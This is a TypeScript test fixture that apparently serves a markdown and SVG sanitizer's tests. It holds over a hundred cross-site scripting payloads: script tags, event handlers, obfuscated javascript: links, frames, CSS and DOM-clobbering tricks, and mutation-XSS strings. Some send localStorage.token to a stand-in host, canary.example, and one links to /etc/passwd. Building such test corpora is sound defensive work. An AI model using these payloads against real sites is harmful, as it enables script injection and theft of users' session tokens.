/**
 * Text that tries to make a reader's browser do something. Whatever runs sets `__ran` in the page or requests the host below,
 * mostly with the reader's token. Only tests use it, and nothing is sent anywhere.
 */
export interface Attack {
  name: string;
  text: string;
}

/** No server answers at this host (RFC 2606). */
export const canaryHost = 'canary.example';
const canary = `https://${canaryHost}`;
const run = '__ran=1';
const steal = `fetch('${canary}/'+localStorage.token)`;
const tab = '\t';

const attacks = (texts: Readonly<Record<string, string>>): Attack[] =>
  Object.entries(texts).map(([name, text]) => ({ name, text }));

const scripts = attacks({
  'a script': `<script>${run}</script>`,
  'a script in capitals': `<SCRIPT>${run}</SCRIPT>`,
  'a script from elsewhere': `<script src="${canary}/a.js"></script>`,
  'a script without a scheme': `<script src="//${canaryHost}/a.js"></script>`,
  'a module': `<script type="module">${run}</script>`,
  'a script in a data address': `<script src="data:text/javascript,${run}"></script>`,
  'a script that is not closed': `<script>${run}//`,
  'a script with a slash in its tag': `<script/x>${run}</script>`,
  'a script within a script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'a script with a line break in its tag': `<script\n>${run}</script\n>`,
  'a script of another namespace': `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  'an import map': `<script type="importmap">{"imports":{"react":"${canary}/a.js"}}</script>`,
  'a script that sends the token': `<script>${steal}</script>`,
  'a module preloaded': `<link rel="modulepreload" href="${canary}/a.js">`,
});

const handlers = attacks({
  'an image that fails': `<img src=x onerror=${run}>`,
  'an image that fails, in quotes': `<img src="x" onerror="${steal}">`,
  'an image without spaces': `<img/src=x/onerror=${run}>`,
  'an image with a line break': `<img src=x\nonerror=${run}>`,
  'an image with a form feed': `<img src=x\fonerror=${run}>`,
  'an image with a backtick': `<img src=\`x\`onerror=${run}>`,
  'an image not closed': `<img src=x onerror=${run} //`,
  'an image in mixed case': `<ImG sRc=x OnErRoR=${run}>`,
  'a body that loads': `<body onload=${run}>`,
  'a drawing that loads': `<svg onload=${run}></svg>`,
  'details that open': `<details open ontoggle=${run}><summary>x</summary></details>`,
  'a field with the focus': `<input autofocus onfocus=${run}>`,
  'a select with the focus': `<select autofocus onfocus=${run}></select>`,
  'a marquee': `<marquee onstart=${run}>x</marquee>`,
  'a video without a source': `<video><source onerror=${run}></video>`,
  'a sound that fails': `<audio src=x onerror=${run}></audio>`,
  'an animation that ends': `<b style="animation:x 1ms" onanimationend=${run}>x</b>`,
  'a transition that begins': `<b style="transition:color 1s" ontransitionrun=${run}>x</b>`,
  'a popover': `<b popover onbeforetoggle=${run}>x</b><button popovertarget=x>x</button>`,
  'content that becomes visible': `<b style="content-visibility:auto" oncontentvisibilityautostatechange=${run}>x</b>`,
  'a pointer over it': `<b onpointerenter=${run} style="position:fixed;inset:0">x</b>`,
  'a scroll end': `<b onscrollend=${run} style="overflow:scroll;height:1px">x</b>`,
});

const addresses = attacks({
  'a link that is a script': `[x](javascript:${run})`,
  'a link in mixed case': `[x](JaVaScRiPt:${run})`,
  'a link with a tab in its scheme': `[x](java${tab}script:${run})`,
  'a link with a tab entity': `[x](java&Tab;script:${run})`,
  'a link with a line break entity': `[x](java&NewLine;script:${run})`,
  'a link with a spelt-out letter': `[x](&#106;avascript:${run})`,
  'a link spelt out in hexadecimal': `[x](&#x6A;avascript:${run})`,
  'a link with a spelt-out colon': `[x](javascript&colon;${run})`,
  'a link with a percent colon': `[x](javascript%3A${run})`,
  'a link with a leading control character': `[x](\u0001javascript:${run})`,
  'a link with a leading space of no width': `[x](\u200bjavascript:${run})`,
  'a link with a soft hyphen': `[x](java\u00adscript:${run})`,
  'a link in angle brackets': `[x](<javascript:${run}>)`,
  'an address by itself that is a script': `<javascript:${run}>`,
  'a page in a data address': `[x](data:text/html,<script>${run}</script>)`,
  'a page in base64': '[x](data:text/html;base64,PHNjcmlwdD5fX3Jhbj0xPC9zY3JpcHQ+)',
  'a script of Visual Basic': `[x](vbscript:${run})`,
  'a blob': '[x](blob:https://bidboard.example/1)',
  'a file': '[x](file:///etc/passwd)',
  'a view of a source': `[x](view-source:javascript:${run})`,
  'a feed': `[x](feed:javascript:${run})`,
  'a link without a scheme': `[x](//${canaryHost}/x)`,
  'a link with backslashes': `[x](\\\\${canaryHost}/x)`,
  'a link that ends its attribute': `[x](https://a.example/"onmouseover="${run})`,
  'a link whose title ends its attribute': `[x](https://a.example/ "x"onmouseover=${run} x=")`,
  'a link whose words are markup': `[<img src=x onerror=${run}>](https://a.example/)`,
  'a reference that is a script': `[x][r]\n\n[r]: javascript:${run}`,
  'a reference with a title': `[x][s]\n\n[s]: https://a.example/ "x\\"onerror=${run}"`,
  'a picture that is a script': `![x](javascript:${run})`,
  'a picture from elsewhere': `![x](${canary}/p.png)`,
  'a picture whose title ends its attribute': `![x](x "x"onerror=${run})`,
  'a picture whose words end its attribute': `![x"onerror="${run}](x)`,
  'an address with a handler behind it': `https://a.example/"onmouseover=${run}//`,
  'a mail address that ends its attribute': `<mailto:a@b.example"onclick="${run}>`,
  'an anchor that is a script': `<a href="javascript:${run}">x</a>`,
  'an anchor with a ping': `<a href="#" ping="${canary}/ping">x</a>`,
  'an anchor that opens a named window': `<a href="${canary}" target="_blank" rel="opener">x</a>`,
  'a download from elsewhere': `<a download href="${canary}/x.exe">x</a>`,
});

const frames = attacks({
  'a frame that is a script': `<iframe src="javascript:${run}"></iframe>`,
  'a frame with a page in it': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'a frame of elsewhere': `<iframe src="${canary}/f"></iframe>`,
  'an object': `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  'an embedded script': `<embed src="javascript:${run}">`,
  'a portal': `<portal src="${canary}/portal"></portal>`,
  'a form of elsewhere': `<form action="${canary}/form"><input name=token><button>x</button></form>`,
  'a form that is a script': `<form action="javascript:${run}"><button id=f>x</button></form>`,
  'a button with an address of its own': `<button form=f formaction="javascript:${run}">x</button>`,
  'a field that is a picture': `<input type=image src=x formaction="javascript:${run}" onerror=${run}>`,
  'another base': `<base href="${canary}/">`,
  'a page that moves on': `<meta http-equiv="refresh" content="0;url=${canary}/moved">`,
  'a page that moves on to a script': `<meta http-equiv="refresh" content="0;url=data:text/html,x">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  'a shadow root': `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
});

const styles = attacks({
  'a style sheet': '<style>body{display:none}</style>',
  'a style sheet that fetches': `<style>@import '${canary}/a.css';</style>`,
  'a style sheet that reads fields': `<style>input[value^=a]{background:url(${canary}/a)}</style>`,
  'a linked style sheet': `<link rel="stylesheet" href="${canary}/a.css">`,
  'a style that covers the page': '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>',
  'a style that fetches': `<b style="background:url(${canary}/b)">x</b>`,
  'a style with a behaviour': `<b style="behavior:url(${canary}/h.htc)">x</b>`,
  'a style with an expression': `<b style="width:expression(${run})">x</b>`,
  'a background': `<table background="${canary}/t.png"><tr><td>x</td></tr></table>`,
  'a class of ours': '<div class="notices opening__login">x</div>',
});

const clobbering = attacks({
  'an id of a global': '<a id=localStorage></a><a id=localStorage name=token href=x>x</a>',
  'a form that hides methods': '<form id=root><input name=appendChild><input name=firstChild></form>',
  'a name of the document': '<img name=getElementById><img name=cookie><img name=querySelector>',
  'the late scripts': `<template id="late"><script src="${canary}/late.js"></script></template>`,
  'a second root': '<div id="root">x</div>',
});

const mutating = attacks({
  'a list item in a table in a drawing': `<svg><p><style><g title="</style><img src=x onerror=${run}>">`,
  'a title in a math annotation': `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  'a textarea in an attribute': `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  'a noscript in an attribute': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'a title in an attribute': `<title><p title="</title><img src=x onerror=${run}>">`,
  'a comment that ends early': `<!--><img src=x onerror=${run}>-->`,
  'a comment that ends by a bang': `<!--x--!><img src=x onerror=${run}>-->`,
  'a comment in a comment': `<!--<!--><script>${run}</script>-->`,
  'a processing instruction': `<?xml-stylesheet href="javascript:${run}"?>`,
  'a CDATA section': `<![CDATA[<script>${run}</script>]]>`,
  'a doctype': `<!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]>&y;`,
  'markup in entities': `&lt;script&gt;${run}&lt;/script&gt;`,
  'markup in entities of entities': `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  'markup in numbers': `&#60;img src=x onerror=${run}&#62;`,
  'markup in full-width signs': `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  'markup with a NUL': `<scr\ufffdipt>${run}</scr\ufffdipt>`,
  'markup turned round': `\u202e>tpircs/<1=nar__>tpircs<\u202c<b onclick=${run}>x</b>`,
  'a long s': `<\u017fcript>${run}</\u017fcript>`,
  'a long s in a link': `[x](java\u017fcript:${run})`,
  'a template sign': `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}}`,
  'a React element as text': `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${run}"}}`,
});

const nested = attacks({
  'a script in a heading': `# <script>${run}</script>`,
  'a script in a quotation': `> <script>${run}</script>\n> [x](javascript:${run})`,
  'a script in a list in a list': `- a\n  - b\n    - <img src=x onerror=${run}>\n      [x](javascript:${run})`,
  'a script in a table': `| a |\n|---|\n| <img src=x onerror=${run}> |\n| [x](javascript:${run}) |`,
  'a script in the head of a table': `| <script>${run}</script> |\n|---|\n| b |`,
  'a script in code': `\`<script>${run}</script>\``,
  'a script in emphasis': `**<img src=x onerror=${run}>** _[x](javascript:${run})_`,
  'markup split over emphasis': `<img src=x one**rror=${run}>x**`,
  'a fence whose language is markup': `\`\`\`"><img src=x onerror=${run}>\n</code></pre><script>${run}</script>\n\`\`\``,
  'a fence that is not closed': `~~~ html\n<script>${run}</script>`,
});

/**
 * Attacks in rich text. The last one is not closed, so in a text of all attacks in this order every other attack comes before it.
 */
export const markupAttacks: readonly Attack[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...frames,
  ...styles,
  ...clobbering,
  ...mutating,
  ...nested,
];

/** All attacks as one rich text. */
export const hostileMarkdown = markupAttacks.map(({ text }) => text).join('\n\n');

/** Attacks inside a drawing, between its tags. */
export const drawingAttacks: readonly Attack[] = attacks({
  'a script': `<script>${run}</script>`,
  'a script by reference': `<script href="${canary}/a.js"/>`,
  'a script of another namespace': `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`,
  'a page in it': `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject>`,
  'a frame in it': `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"/></foreignObject>`,
  'a handler': `<g onload="${run}"/>`,
  'a handler of the focus': `<g tabindex="0" autofocus="" onfocus="${run}"/>`,
  'an animation that begins': `<animate attributeName="x" dur="1s" onbegin="${run}"/>`,
  'an animated link': `<a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a>`,
  'a set link': `<a><set attributeName="xlink:href" to="javascript:${run}"/><text>x</text></a>`,
  'a link': `<a href="javascript:${run}"><text>x</text></a>`,
  'a use of a data address': `<use href="data:image/svg+xml,&lt;svg id='x' onload='${run}'/>#x"/>`,
  'a use of elsewhere': `<use href="${canary}/x.svg#x"/>`,
  'a picture of elsewhere': `<image href="${canary}/p.png"/>`,
  'a filter with a picture of elsewhere': `<filter id="f"><feImage href="${canary}/f.png"/></filter>`,
  'a fill of elsewhere': `<rect fill="url(${canary}/f#a)"/>`,
  'a style that fetches': `<rect style="fill:url(${canary}/s#a)"/>`,
  'a sheet that fetches': `<style>@import "${canary}/a.css";</style>`,
  'a sheet that fetches by escapes': `<style>@\\69mport "${canary}/a.css";</style>`,
  'a sheet with a font': `<style>@font-face{font-family:a;src:url(${canary}/a.woff)}</style>`,
  'a sheet that ends itself': `<style><![CDATA[</style><script>${run}</script>]]></style>`,
  'a handler by reference': `<handler xmlns:ev="http://www.w3.org/2001/xml-events" type="text/javascript" ev:event="load">${run}</handler>`,
  'a script spelt out': `<text>&#60;script&#62;${run}&#60;/script&#62;</text>`,
  'a style sheet instruction': `<?xml-stylesheet href="${canary}/a.css"?>`,
  'a title that is markup': `<title><![CDATA[<img src=x onerror=${run}>]]></title>`,
  'a description that is markup': `<desc>&lt;script&gt;${run}&lt;/script&gt;</desc>`,
  'a cursor of elsewhere': `<rect style="cursor:url(${canary}/c),auto"/>`,
  'a mask of elsewhere': `<rect mask="url('${canary}/m#a')"/>`,
  'a discard of what is there': `<discard href="#x" onbegin="${run}"/>`,
  'a sound': `<audio xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/>`,
});

/** Returns a drawing with all or some of the attacks. It is well-formed, so a browser that opens it renders it. */
export const hostileDrawing = (some: readonly Attack[] = drawingAttacks): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 8 8">${some
    .map(({ text }) => text)
    .join('')}<path d="M0 0h8v8z"/></svg>`;

/** Attacks that are short enough for names of companies, products, people and files. */
export const nameAttacks: readonly Attack[] = attacks({
  'an image that fails': `<img src=x onerror=${run}>`,
  'a script': `</title></script><script>${run}</script>`,
  'an attribute that ends': `"><svg onload=${run}>`,
  'an attribute that ends, by the other quotes': `'><svg onload=${run}> x='`,
  'a text area that ends': `</textarea><img src=x onerror=${run}>`,
  'a comment': `--><img src=x onerror=${run}><!--`,
  'a template sign': `{{constructor.constructor('${run}')()}}`,
  'a link that is a script': `[x](javascript:${run})`,
  'spelt-out markup': `&lt;img src=x onerror=${run}&gt;`,
  'a turn of direction': `\u202e<img src=x onerror=${run}>`,
});
